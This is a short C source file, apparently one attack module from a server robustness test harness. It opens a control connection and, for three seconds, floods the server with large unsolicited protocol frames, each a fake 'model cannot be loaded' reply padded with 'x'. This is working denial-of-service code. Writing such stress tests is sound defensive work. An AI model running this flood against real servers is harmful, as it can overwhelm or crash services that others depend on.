/* Floods the connection to the server: answers to what nobody asked, as long ones as can be, as fast as it goes. */
#define PLACE IN_RUN
#include "attack.h"

enum { REASON = 60 << 10 };

static void *flood(void *argument) {
    int link = *(int *)argument;
    /* "Model 2147483647 cannot be loaded: xxx...", which nobody has wanted. */
    unsigned char *frame = calloc(1, REASON + 13);
    uint32_t length = REASON + 9;
    memcpy(frame, &length, 4);
    frame[4] = 5;
    frame[5] = 0x7f, frame[6] = frame[7] = frame[8] = 0xff;
    frame[9] = 0, frame[10] = 0, frame[11] = REASON >> 8, frame[12] = 0;
    memset(frame + 13, 'x', REASON);
    for (double end = now() + 3; now() < end;) {
        for (size_t sent = 0; sent < REASON + 13;) {
            ssize_t more = send(link, frame + sent, REASON + 13 - sent, MSG_NOSIGNAL);
            if (more <= 0) return NULL;
            sent += (size_t)more;
        }
    }
    return NULL;
}

static void attack(void) {
    static int link;
    link = control_socket();
    if (link < 0) {
        note("no connection to the server");
        return;
    }
    on_a_thread(flood, &link);
    pause_for(2);
}
